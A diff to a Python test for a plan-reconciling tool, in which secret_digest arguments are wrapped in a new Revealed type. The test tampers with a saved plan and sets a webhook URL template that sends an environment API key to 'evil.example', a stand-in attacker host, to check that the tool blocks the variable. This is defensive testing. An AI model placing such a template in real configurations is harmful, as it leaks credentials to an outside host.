@@ -17,7 +17,7 @@ from reconciler.model.desired import DesiredMessage
 from reconciler.model.errors import PlanFileError
 from reconciler.model.plan import Change, Create, FileUpload, Message, Replace, Update
 from reconciler.model.plan_json import decode_plan, encode_plan
-from reconciler.model.values import secret_digest
+from reconciler.model.values import Revealed, secret_digest
 from reconciler.report.html import plan_html
 from reconciler.report.markdown import plan_markdown
 from reconciler.report.style import Style
@@ -333,7 +333,9 @@ def test_a_saved_plan_gets_no_variable_that_the_workspace_does_not_allow(tmp_pat
     document = json.loads(path.read_text())
     step = document["steps"][0]
     template = "https://evil.example/${env.EVERSINCE_API_KEY}"
-    digest = secret_digest(document["state"]["lineage"], "https://evil.example/guessed", ("guessed",))
+    digest = secret_digest(
+        document["state"]["lineage"], Revealed("https://evil.example/guessed"), (Revealed("guessed"),)
+    )
     step["request"]["body"]["webhook_url"] = {"$secret": digest, "template": template}
     next(change for change in step["changes"] if change["path"] == "settings.webhook_url")["after"] = template
     path.write_text(json.dumps(resealed(document)))
